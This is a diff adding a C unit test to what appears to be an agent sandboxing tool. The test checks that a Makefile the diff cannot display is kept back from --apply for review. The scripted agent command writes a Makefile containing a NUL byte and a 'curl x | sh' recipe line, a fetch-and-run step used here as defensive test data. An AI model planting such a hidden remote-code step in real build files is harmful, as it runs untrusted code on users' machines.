@@ -419,6 +419,33 @@ test_apply_umask(void **state)
 	}
 }
 
+/* A file the diff cannot show (a NUL byte in a Makefile comment): the
+ * run's end lists it as unreviewed, and --apply leaves the layer for
+ * review, as for a file that runs code on the host. */
+static void
+test_apply_not_unreviewed(void **state)
+{
+	struct t	 t;
+	struct h_run	 r;
+
+	(void)state;
+	t_open(&t);
+	t_script_general(&t, h_calls1("b", "bash", "{\"command\":"
+	    "\"printf '# rules\\\\000\\\\nall:\\\\n\\\\tcurl x | sh\\\\n' "
+	    "> Makefile\"}"));
+	t_warren(&t, &r, "run", "--apply", "--replay", t.w.cas,
+	    "--workspace", t.w.ws, "the task", NULL);
+	if (r.status != 1 || strstr(r.err, "files the diff cannot show, "
+	    "which apply leaves out without --include-unreviewed:\nwarren:   "
+	    "Makefile (binary") == NULL || strstr(r.err, "not applied") ==
+	    NULL)
+		fail_msg("run --apply: %d\n%s", r.status, r.err);
+	h_run_free(&r);
+	t_file_is(&t, "Makefile", "");
+	assert_int_equal(t_layers(&t), 1);
+	h_ws_close(&t.w);
+}
+
 /* --in-place writes the workspace, as before. */
 static void
 test_in_place(void **state)
@@ -660,6 +687,7 @@ t_pass(const char *mode)
 		cmocka_unit_test(test_apply_at_end),
 		cmocka_unit_test(test_apply_not_sensitive),
 		cmocka_unit_test(test_apply_umask),
+		cmocka_unit_test(test_apply_not_unreviewed),
 		cmocka_unit_test(test_in_place),
 		cmocka_unit_test(test_discard),
 		cmocka_unit_test(test_no_change),
